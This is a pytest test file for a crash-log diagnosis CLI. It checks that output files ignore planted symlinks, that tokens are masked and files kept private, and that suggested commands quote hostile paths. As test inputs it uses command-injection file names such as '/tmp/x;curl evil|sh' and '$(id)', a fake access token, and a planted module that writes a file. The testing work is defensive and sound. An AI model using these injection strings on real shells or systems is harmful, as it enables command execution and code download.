"""What the command leaves: files that follow no link, commands that are safe to paste, silence."""

import os
import shlex
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from postmortem.cli.main import main
from postmortem.partial import create_beside
from postmortem.text import shell_word

TOKEN = "gh" + "p_" + "16C7e42F292c6912E7710c838347Ae178B4a"
RAISED = f"""\
[rank0]:Traceback (most recent call last):
[rank0]:  File "train.py", line 3, in main
[rank0]:RuntimeError: the hub refused {TOKEN}
[rank1]:step 3
"""
LOG = '7 execve("/bin/x", ["x"], 0x7f /* 1 var */) = 0\n7 +++ exited with 0 +++\n'


@pytest.mark.parametrize("planted", ["link", "dangling link", "file", "folder"])
def test_a_new_file_follows_no_link_and_touches_nothing(tmp_path: Path, planted: str) -> None:
    final, victim = tmp_path / "report.txt", tmp_path / "victim"
    victim.write_text("mine")
    trap = tmp_path / f".report.txt.{os.getpid()}.partial"
    if planted == "link":
        trap.symlink_to(victim)
    elif planted == "dangling link":
        trap.symlink_to(tmp_path / "nowhere")
    elif planted == "file":
        trap.write_text("planted")
    else:
        trap.mkdir()
    descriptor, path = create_beside(final)
    os.write(descriptor, b"ours")
    os.close(descriptor)
    assert path != trap
    assert path.read_bytes() == b"ours"
    assert victim.read_text() == "mine"
    assert not (tmp_path / "nowhere").exists()
    assert os.path.lexists(trap)


@pytest.mark.parametrize("option", ["-o", "--calls", "--trace", "--folded"])
def test_planted_links_are_not_followed(tmp_path: Path, option: str) -> None:
    log, victim = tmp_path / "strace.txt", tmp_path / "victim"
    log.write_text(LOG)
    victim.write_text("mine")
    target = tmp_path / "out.ndjson"
    (tmp_path / f".out.ndjson.{os.getpid()}.partial").symlink_to(victim)
    assert main(["strace", str(log), option, str(target)]) == 0
    assert victim.read_text() == "mine"
    assert target.stat().st_size > 0
    assert not target.is_symlink()


# --- --split


def test_split_masks_and_is_private(tmp_path: Path) -> None:
    log, masked, plain = tmp_path / "job.out", tmp_path / "masked", tmp_path / "plain"
    log.write_text(RAISED)
    main(["logs", str(log), "--split", str(masked)])
    main(["logs", str(log), "--split", str(plain), "--no-redact"])
    assert "the hub refused [masked]\n" in (masked / "rank-0.log").read_text()
    assert (masked / "rank-1.log").read_text() == "step 3\n"
    assert TOKEN in (plain / "rank-0.log").read_text()
    for path in (*masked.iterdir(), *plain.iterdir()):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_split_follows_no_link(tmp_path: Path) -> None:
    log, target, victim = tmp_path / "job.out", tmp_path / "by-rank", tmp_path / "victim"
    log.write_text(RAISED)
    victim.write_text("mine")
    main(["logs", str(log), "--split", str(target)])
    (target / "rank-0.log").unlink()
    (target / "rank-0.log").symlink_to(victim)
    (target / ".postmortem-split").unlink()
    (target / ".postmortem-split").symlink_to(tmp_path / "made")
    (tmp_path / "made").write_text("")
    main(["logs", str(log), "--split", str(target)])
    assert victim.read_text() == "mine"
    assert (tmp_path / "made").read_text() == ""


# --- errors on standard error


def test_an_error_is_masked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = str(tmp_path / f"core.{TOKEN}")
    assert main(["core", missing]) == 3
    assert TOKEN not in capsys.readouterr().err
    assert main(["core", missing, "--no-redact"]) == 3
    assert TOKEN in capsys.readouterr().err


def test_evidence_with_a_secret_name_is_not_written_over(tmp_path: Path) -> None:
    log = tmp_path / f"{TOKEN}.log"
    log.write_text(RAISED)
    assert main(["logs", str(log), "-o", str(log)]) == 3
    assert log.read_text() == RAISED


# --- suggested commands


@pytest.mark.parametrize(
    "name",
    ["/tmp/x;curl evil|sh", "a b", "$(id)", "it's", "`id`", "-rf", "", "a\nb", "plain/p.txt"],
)
def test_a_shell_takes_a_name_as_one_word(name: str) -> None:
    ran = subprocess.run(
        ["sh", "-c", f"printf %s {shell_word(name)}"], capture_output=True, check=True
    )
    assert ran.stdout.decode() == (f"./{name}" if name.startswith("-") else name)
    assert shlex.split(shell_word("plain/p.txt")) == [shell_word("plain/p.txt")]


def test_a_hostile_path_is_quoted_in_next_steps(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = "/tmp/x;curl evil|sh/f"
    log = tmp_path / "strace.txt"
    calls = [f'openat(AT_FDCWD, "{path}", O_RDONLY) = -1 {e}' for e in ("EACCES (x)", "EROFS (x)")]
    log.write_text("".join(f"7 {call}\n" for call in calls) + "7 exit_group(1) = ?\n")
    main(["strace", str(log), "--json"])
    import json

    steps = [s for d in json.loads(capsys.readouterr().out)["diagnoses"] for s in d["next_steps"]]
    telling = [step for step in steps if "curl evil" in step]
    assert telling
    for step in telling:
        assert ";curl" not in step.replace("'/tmp/x;curl evil|sh/f'", "").replace(
            "'/tmp/x;curl evil|sh'", ""
        )


# --- an interrupt


def test_an_interrupt_while_modules_are_imported_is_silent(tmp_path: Path) -> None:
    # An import that waits for us stands for a slow file system.
    (tmp_path / "slow").mkdir()
    (tmp_path / "slow" / "argparse.py").write_text(
        "import time\nprint('importing', flush=True)\ntime.sleep(60)\n"
    )
    start = f"import sys; sys.path.insert(0, {str(tmp_path / 'slow')!r})\n"
    start += "from postmortem.entry import run\nrun()\n"
    process = subprocess.Popen(
        [sys.executable, "-c", start], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert process.stdout is not None
    assert process.stdout.readline() == b"importing\n"
    time.sleep(0.05)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert err == b""
    assert process.returncode == -signal.SIGINT


def test_no_command_imports_from_the_current_folder(tmp_path: Path) -> None:
    (tmp_path / "re.py").write_text("open('ran', 'w')\n")
    command = tmp_path / "bin" / "postmortem"  # as pip writes it
    command.parent.mkdir()
    command.write_text("from postmortem.entry import run\nrun()\n")
    for words in (["--help"], ["flight", "missing"], ["doctor"]):
        ran = subprocess.run([sys.executable, command, *words], cwd=tmp_path, capture_output=True)
        assert ran.returncode in (0, 1, 3)
    assert not (tmp_path / "ran").exists()
